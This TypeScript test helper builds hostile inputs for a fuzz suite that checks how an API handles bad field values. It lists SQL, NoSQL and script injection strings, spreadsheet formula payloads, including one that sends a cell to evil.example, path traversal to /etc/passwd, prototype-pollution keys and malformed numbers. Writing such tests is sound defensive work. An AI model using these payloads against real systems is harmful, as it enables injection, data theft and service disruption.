// Hostile values for the generated hostile-input suite: what an attacker or a broken client puts where a field
// is expected. A RawToken is written into the JSON text as is (NaN, Infinity, 1e400 are not JSON values).
import fc from 'fast-check';

export class RawToken {
  constructor(readonly text: string) {
    Object.freeze(this); // one JSON token: copyValue hands out the instance itself, so no edit may change it
  }
}

/** JSON.parse makes `__proto__` an own key (an object literal would set the prototype instead). */
const own = (json: string): unknown => JSON.parse(json);

export const INJECTION_STRINGS = [
  "'; DROP TABLE invoices; --",
  '1 OR 1=1',
  '" OR ""="',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1)',
  '+SUM(1,1)',
  '-2+3',
  '@SUM(A1)',
  '../../../../etc/passwd',
  '${7*7}',
  '{{7*7}}',
  'a\r\nX-Injected: 1',
  'nul\u0000byte',
  '\u202eRTL override',
  '\ud800',
  '\udfff\ud800',
  '😀'.repeat(50),
  'sleep(5000)',
  'this.constructor.constructor("return process")().exit()',
];

const injectionObjects = (): unknown[] => [
  { $gt: '' },
  { $ne: null },
  { $where: 'sleep(5000) || true' },
  { $regex: '.*' },
  { $expr: { $eq: [1, 1] } },
  [{ $gt: '' }],
  own('{"__proto__": {"polluted": true}}'),
  own('{"constructor": {"prototype": {"polluted": true}}}'),
  { prototype: { polluted: true } },
  { toString: 'x', valueOf: 'y', hasOwnProperty: 'z' },
];

export const RAW_NUMBERS = ['NaN', 'Infinity', '-Infinity', '1e400', '-1e400', '1e-400', '0x10', '01', '+1', '.5', '1.', '9'.repeat(400)];

/** Keys that are not fields, some meant to pollute prototypes or reach the store's operators. */
export const HOSTILE_KEYS = ['__proto__', 'constructor', 'prototype', '$where', '$gt', 'a.b', '', ' ', '\u0000', 'x'.repeat(300), 'toString', 'hasOwnProperty'];

export function hugeString(): fc.Arbitrary<string> {
  return fc.constantFrom(1_000, 10_000, 100_000, 400_000).chain((n) => fc.constantFrom('A', 'é', '😀', '<', '"').map((c) => c.repeat(n)));
}

/** One value to put where a field was. */
export function hostileValue(): fc.Arbitrary<unknown> {
  return fc.oneof(
    { arbitrary: fc.constantFrom<unknown>(null, true, false, 0, -1, -0, 1.5, 1e308, -1e308, 2 ** 53 + 2, 5e-324, '', ' ', [], {}, [[]], [null], 'x'), weight: 4 },
    { arbitrary: fc.constantFrom(...RAW_NUMBERS).map((t) => new RawToken(t)), weight: 2 },
    { arbitrary: fc.constantFrom(...INJECTION_STRINGS), weight: 3 },
    { arbitrary: fc.constantFrom(...injectionObjects()), weight: 3 },
    { arbitrary: hugeString(), weight: 1 },
    { arbitrary: fc.string({ unit: 'binary', maxLength: 40 }), weight: 2 },
    { arbitrary: fc.integer({ min: 40, max: 200 }).map((d) => nested(d)), weight: 1 },
    { arbitrary: fc.array(fc.constant(1), { minLength: 1000, maxLength: 5000 }), weight: 1 },
    { arbitrary: fc.jsonValue({ maxDepth: 3 }), weight: 2 },
  );
}

/** An array nested `depth` levels deep: over the body depth limit. */
export function nested(depth: number): unknown {
  let v: unknown = 'bottom';
  for (let i = 0; i < depth; i++) v = [v];
  return v;
}

/** A deep copy that keeps RawTokens and own `__proto__` keys (generated values are shared: never edit them in place). */
export function copyValue<T>(value: T): T {
  if (value instanceof RawToken || value === null || typeof value !== 'object') return value;
  if (Array.isArray(value)) return Array.from(value, copyValue) as T;
  const out = {};
  for (const k of Object.keys(value)) Object.defineProperty(out, k, { value: copyValue((value as Record<string, unknown>)[k]), enumerable: true, configurable: true, writable: true });
  return out as T;
}

/** JSON text of a value that may hold RawTokens (written verbatim) and own `__proto__` keys. */
export function toJsonText(value: unknown): string {
  if (value instanceof RawToken) return value.text;
  if (Array.isArray(value)) return `[${Array.from(value, toJsonText).join(',')}]`;
  if (value && typeof value === 'object') {
    return `{${Object.keys(value).map((k) => `${JSON.stringify(k)}:${toJsonText((value as Record<string, unknown>)[k])}`).join(',')}}`;
  }
  return JSON.stringify(value) ?? 'null';
}
